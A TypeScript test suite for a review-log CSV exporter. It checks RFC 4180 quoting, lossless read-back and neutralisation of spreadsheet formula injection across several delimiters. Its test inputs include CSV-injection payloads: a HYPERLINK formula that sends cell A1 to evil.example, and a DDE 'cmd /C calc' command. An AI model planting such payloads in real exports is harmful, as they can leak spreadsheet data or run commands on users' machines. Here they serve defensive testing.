/**
 * The review-log CSV export: every data cell quoted (RFC 4180), formula starts neutralised (OWASP CSV
 * injection), read back losslessly, and safe for spreadsheets that split on ";" or tab instead of ",".
 */
import fc from 'fast-check';
import { CSV_COLUMNS, csvCell, csvHeader, csvRow, recordsToCsv } from '../../../core/exportCsv';
import { rec } from './records';

/**
 * A small RFC 4180 reader (quoted fields, "" escapes, CRLF rows) to read our output back. With another
 * `delimiter` it is a spreadsheet set to split on that character while honouring quotes: a quote
 * anywhere opens or closes a quoted stretch, and the delimiter splits only outside one.
 */
function parseCsv(text: string, delimiter = ','): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const c = text[i];
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (c === '"') quoted = false;
			else cell += c;
		} else if (c === '"') quoted = true;
		else if (c === delimiter) {
			row.push(cell);
			cell = '';
		} else if (c === '\r' && text[i + 1] === '\n') {
			row.push(cell);
			rows.push(row);
			row = [];
			cell = '';
			i++;
		} else cell += c;
	}
	if (cell !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
	return rows;
}

async function collect(gen: AsyncIterable<string>): Promise<string> {
	let s = '';
	for await (const c of gen) s += c;
	return s;
}

/** What a spreadsheet would run as a formula: OWASP's leads (plus LF, NUL), or = + - @ after whitespace. */
const FORMULA_LEAD = /^[=+\-@\t\r\n\u0000]|^\s*[=+\-@]/;
/** One RFC 4180 quoted field: quotes around, inner quotes doubled, nothing outside. */
const QUOTED_FIELD = /^"(?:[^"]|"")*"$/;

describe('CSV cells', () => {
	it.each([
		['=HYPERLINK("http://evil","x")', `"'=HYPERLINK(""http://evil"",""x"")"`],
		['+1+1', `"'+1+1"`],
		['-2+3', `"'-2+3"`],
		['@SUM(A1)', `"'@SUM(A1)"`],
		['\tcmd', `"'\tcmd"`],
		['\rcmd', `"'\rcmd"`],
		['\n=1', `"'\n=1"`],
		['  =1+1', `"'  =1+1"`],
		['plain', '"plain"'],
		['ok;=1+1', '"ok;=1+1"'],
		['a\tb', '"a\tb"'],
		['a,b', '"a,b"'],
		['line1\nline2', '"line1\nline2"'],
		['say "hi"', '"say ""hi"""'],
		['', '""'],
	])('%j → %j', (input, expected) => {
		expect(csvCell(input)).toBe(expected);
	});

	it('null is an empty quoted cell, numbers plain text, nested values JSON', () => {
		expect(csvCell(null)).toBe('""');
		expect(csvCell(undefined)).toBe('""');
		expect(csvCell(1500)).toBe('"1500"');
		expect(csvCell(true)).toBe('"true"');
		expect(csvCell(['needs review', 'money'])).toBe('"[""needs review"",""money""]"');
		expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
		// A nested value whose JSON starts harmlessly is not prefixed.
		expect(csvCell([{ path: '=x', before: 1, after: 2 }])).toBe('"[{""path"":""=x"",""before"":1,""after"":2}]"');
	});

	it.each([
		['semicolon', 'ok;=1+1', 'ok;=1+1'],
		['comma', 'a,=1+1', 'a,=1+1'],
		['tab inside', 'a\t=1+1', 'a\t=1+1'],
		['CR LF inside', 'a\r\n=1+1', 'a\r\n=1+1'],
		['lone LF inside', 'a\n@SUM(A1)', 'a\n@SUM(A1)'],
		['quotes', 'say "=1+1" "', 'say "=1+1" "'],
		['=1+1', '=1+1', "'=1+1"],
		['+1', '+1', "'+1"],
		['-1', '-1', "'-1"],
		['@SUM(A1)', '@SUM(A1)', "'@SUM(A1)"],
		['tab lead', '\t=1', "'\t=1"],
		['CR lead', '\r=1', "'\r=1"],
		['LF lead', '\n=1', "'\n=1"],
		['space lead', ' -1', "' -1"],
		['NUL lead', '\u0000=1', "'\u0000=1"],
	])('%s: quoted, and read back by an RFC 4180 reader as the neutralised text', (_name, input, readBack) => {
		const cell = csvCell(input);
		expect(cell).toMatch(QUOTED_FIELD);
		expect(parseCsv(`${cell},${cell}\r\n`)).toEqual([[readBack, readBack]]);
	});

	it('no cell ever starts (after unquoting) with a formula character, and every cell is quoted (property)', () => {
		fc.assert(
			fc.property(
				fc.oneof(
					fc.string(),
					fc.string({ unit: 'binary' }),
					fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\u0000', ' =', ';=1', '"'),
				),
				(s) => {
					const cell = csvCell(s);
					expect(cell).toMatch(QUOTED_FIELD);
					const parsed = parseCsv(cell + '\r\n')[0];
					expect(parsed).toHaveLength(1);
					expect(parsed[0]).not.toMatch(FORMULA_LEAD);
					// Reading back gives the original text, with at most the one-quote prefix added.
					expect([s, `'${s}`]).toContain(parsed[0]);
				},
			),
		);
	});
});

describe('a spreadsheet splitting on ";", "," or tab (honouring quotes)', () => {
	const hostile = rec(1, {
		event: 'decided',
		decision: 'rejected',
		reviewerId: 'mallory;=1+1',
		comment: 'ok;=HYPERLINK("https://evil.example/?"&A1)',
		tierReasons: ['x\t=cmd|\' /C calc\'!A0', '@SUM(A1)'],
		workflowName: 'a,+1',
		itemKey: 'k\r\n-1',
		modelName: 'gpt\t@SUM(A1)',
		details: { note: 'b;@x', tab: '\t=1' },
	});

	it.each([
		['semicolon', ';'],
		['comma', ','],
		['tab', '\t'],
	])('split on %s: no cell of a hostile row begins with a formula character', async (_name, delimiter) => {
		let text = '';
		for await (const chunk of recordsToCsv([hostile])) text += chunk;
		const rows = parseCsv(text, delimiter);
		expect(rows).toHaveLength(2);
		for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_LEAD);
	});

	it('for any cell texts, a split on any of the three never yields a formula start (property)', () => {
		const risky = fc.string({ unit: fc.constantFrom(';', ',', '\t', '"', '=', '+', '-', '@', ' ', '\r', '\n', 'a', '1') });
		fc.assert(
			fc.property(fc.array(risky, { minLength: 1, maxLength: 5 }), fc.constantFrom(';', ',', '\t'), (texts, delimiter) => {
				const line = texts.map((t) => csvCell(t)).join(',') + '\r\n';
				for (const cell of parseCsv(line, delimiter).flat()) expect(cell).not.toMatch(FORMULA_LEAD);
			}),
		);
	});
});

describe('CSV export of records', () => {
	const records = [
		rec(1, {
			event: 'decided',
			decision: 'approved_with_edits',
			reviewerId: 'alice@example.com',
			tier: 'high',
			tierReasons: ['candidate-facing send'],
			edits: [{ path: 'body', before: 'Hi,\n"old"', after: '=cmd|calc' }],
			comment: '=1+1',
			queueTimeMs: 1234,
		}),
		rec(2, { event: 'note', details: { text: 'ünïcödé ‮ RTL', n: 2 } }),
	];

	it('writes a header and one row per record, one column per field, that read back losslessly', async () => {
		const text = await collect(recordsToCsv(records));
		expect(text.startsWith(csvHeader())).toBe(true);
		const rows = parseCsv(text);
		expect(rows[0]).toEqual([...CSV_COLUMNS]);
		expect(rows).toHaveLength(3);
		const byCol = (r: string[]) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]]));
		const first = byCol(rows[1]);
		expect(first.seq).toBe('1');
		expect(first.decision).toBe('approved_with_edits');
		expect(first.comment).toBe("'=1+1");
		expect(JSON.parse(first.edits)).toEqual(records[0].edits);
		expect(JSON.parse(first.tierReasons)).toEqual(['candidate-facing send']);
		expect(first.queueTimeMs).toBe('1234');
		expect(first.requesterId).toBe('');
		const second = byCol(rows[2]);
		expect(JSON.parse(second.details)).toEqual({ text: 'ünïcödé ‮ RTL', n: 2 });
		expect(second.hash).toBe(records[1].hash);
	});

	it('covers every record field exactly once', () => {
		expect([...CSV_COLUMNS].sort()).toEqual(Object.keys(records[0]).sort());
		expect(csvRow(records[0]).split('\r\n')).toHaveLength(2);
	});

	it('adds a UTF-8 BOM only when asked', async () => {
		expect((await collect(recordsToCsv([], { bom: true }))).charCodeAt(0)).toBe(0xfeff);
		expect(await collect(recordsToCsv([]))).toBe(csvHeader());
	});
});
